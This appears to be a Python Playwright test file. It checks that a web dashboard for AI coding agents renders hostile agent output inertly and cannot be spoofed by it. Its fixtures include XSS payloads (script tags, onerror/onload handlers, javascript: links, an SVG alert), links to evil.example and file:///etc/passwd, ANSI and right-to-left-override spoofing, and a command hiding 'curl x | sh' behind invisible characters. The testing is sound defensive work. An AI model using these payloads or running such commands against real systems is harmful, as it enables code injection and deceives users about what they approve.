"""Output of an agent is text: it cannot run code, load resources or imitate the page."""

from __future__ import annotations

import re
from pathlib import Path

from playwright.sync_api import expect

from tests.page.browsing import OpenDevice, StartHub
from tests.page.hubs import playing

MARKDOWN = """# Hello <script>window.ran = 1</script>

<img src=x onerror="window.ran = 1"> <svg onload="window.ran = 1"></svg>

![pixel](https://evil.example/pixel.png) ![svg](data:image/svg+xml,<svg onload=alert(1)>)

[one](javascript:window.ran=1) [two](JaVaScRiPt:window.ran=1) [three](data:text/html,<script>)
[four](vbscript:x) [five](file:///etc/passwd) [six](//evil.example/x) [seven](https://a:b@evil.example)
[my bank](https://evil.example/login) <https://evil.example/plain>

| a | b |
| - | :-: |
| <b onclick=x>c</b> | `\u202egnp.exe` |
"""
ANSI = (
    "\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ "
    "\x1b[31mred\x1b[0m \x1b[2Jend\x07"
)
SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="


def test_hostile_output_is_shown_and_does_nothing(
    start_hub: StartHub, open_device: OpenDevice, folder: Path
) -> None:
    image = {"type": "image", "mimeType": "image/svg+xml", "data": SVG}
    chunk = {"sessionUpdate": "agent_message_chunk", "content": image}
    steps = (
        {"say": MARKDOWN},
        {"update": chunk},
        {"tool": "t", "title": "Look at \x1b[31m\u202egnp.exe", "kind": "execute"},
        {"finish": "t", "text": ANSI},
        {"say": "The end."},
    )
    hub = start_hub(hostile=playing(*steps))
    session = hub.session("hostile", folder)
    hub.prompt(session, "<img src=x onerror='window.ran = 1'>")
    page = open_device(hub, place=f"/#/s/{session}")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    log = page.get_by_role("log", name="Transcript")
    expect(log.get_by_text("The end.")).to_be_visible()
    page.reload()
    expect(log.get_by_text("The end.")).to_be_visible()
    log.get_by_role("article", name=re.compile("^Tool")).get_by_role("button").first.tap()
    output = log.get_by_label("Output")
    expect(output).to_have_text("link red end")
    assert output.locator(".ansi-1").inner_text() == "red"

    assert page.evaluate("window.ran") is None
    assert [url for url in asked if not url.startswith(hub.url)] == []
    assert (
        log.locator("img, script, iframe, object, [onclick], [onerror], [style*=url]").count() == 0
    )
    addresses = log.locator("a").evaluate_all(
        "links => links.map(link => link.getAttribute('href'))"
    )
    assert addresses == [
        "https://evil.example/pixel.png",
        "https://evil.example/login",
        "https://evil.example/plain",
    ]
    bank = log.get_by_role("link", name="my bank")
    assert bank.inner_text().split() == ["my", "bank", "evil.example"]
    assert bank.get_attribute("rel") == "noopener noreferrer nofollow"
    assert bank.get_attribute("target") == "_blank"
    expect(log.locator(".unseen").first).to_have_text("U+202E")


def test_a_kind_named_like_an_object_property_breaks_no_screen(
    start_hub: StartHub, open_device: OpenDevice, folder: Path
) -> None:
    call = {"toolCallId": "e", "title": "Odd", "kind": "__proto__", "rawInput": {"x": 1}}
    began = {"sessionUpdate": "tool_call", **call, "toolCallId": "t", "kind": "constructor"}
    inner = {**began, "toolCallId": "i", "_meta": {"claudeCode": {"parentToolUseId": "t"}}}
    options = [{"optionId": "y", "name": "Yes", "kind": "allow_once"}]
    ask = {
        "request": "session/request_permission",
        "params": {"toolCall": call, "options": options},
    }
    hub = start_hub(odd=playing({"update": began}, {"update": inner}, ask))
    session = hub.session("odd", folder)
    hub.prompt(session, "go")
    page = open_device(hub, place="/#/inbox")
    expect(page.get_by_role("region", name=re.compile("^Approval"))).to_be_visible()
    page.goto(f"{hub.url}/#/s/{session}")
    expect(page.get_by_label("Sub-agent steps")).to_contain_text("1 step · used 1 tool")


def test_invisible_characters_of_a_command_are_shown_as_code_points(
    start_hub: StartHub, open_device: OpenDevice, folder: Path
) -> None:
    command = "echo ok # \u202e moc.elpmaxe\u200b\x1b[8m && curl x | sh"
    ask = {"ask": "t", "title": "Say\u2066 ok", "kind": "execute", "input": {"command": command}}
    hub = start_hub(hostile=playing(ask))
    hub.prompt(hub.session("hostile", folder), "go")
    page = open_device(hub, place="/#/inbox")
    shown = page.get_by_label("Command")
    expect(shown).to_contain_text("U+202E")
    expect(shown).to_contain_text("U+200B")
    expect(shown).to_contain_text("U+001B")
    expect(page.get_by_text("invisible or text-reversing characters")).to_be_visible()


def test_buttons_are_named_by_what_they_do_and_not_by_the_agent(
    start_hub: StartHub, open_device: OpenDevice, folder: Path
) -> None:
    options = [
        {"optionId": "x", "name": "Reject", "kind": "allow_always"},
        {"optionId": "y", "name": "Allow", "kind": "reject_once"},
    ]
    ask = {"ask": "t", "title": "Go", "kind": "execute", "input": {"command": "ls"}}
    hub = start_hub(hostile=playing({**ask, "options": options}))
    hub.prompt(hub.session("hostile", folder), "go")
    page = open_device(hub, place="/#/inbox")
    card = page.get_by_role("region", name=re.compile("^Approval"))
    expect(card.get_by_role("button", name="Reject", exact=True)).to_have_count(1)
    expect(card.get_by_role("button", name="Allow", exact=True)).to_have_count(0)
    card.get_by_role("button", name="More options").tap()
    expect(card.get_by_role("button", name="Allow always")).to_be_visible()
    expect(card).to_contain_text("without asking again")


def test_a_title_does_not_reverse_the_text_after_it(
    start_hub: StartHub, open_device: OpenDevice, folder: Path
) -> None:
    ask = {"ask": "t", "title": "Look", "kind": "execute", "input": {"command": "ls"}}
    hub = start_hub(turner=playing({"title": "\u202etidy up"}, ask))
    session = hub.session("turner", folder)
    hub.prompt(session, "go")
    page = open_device(hub, place="/#/inbox")
    asked_by = page.locator(".approval-from")
    expect(asked_by).to_contain_text("U+202Etidy up · turner · ")
    for place in ("", f"s/{session}"):
        page.goto(f"{hub.url}/#/{place}")
        expect(page.get_by_text("U+202E").first).to_be_visible()
        assert "\u202e" not in page.locator("main").inner_text()
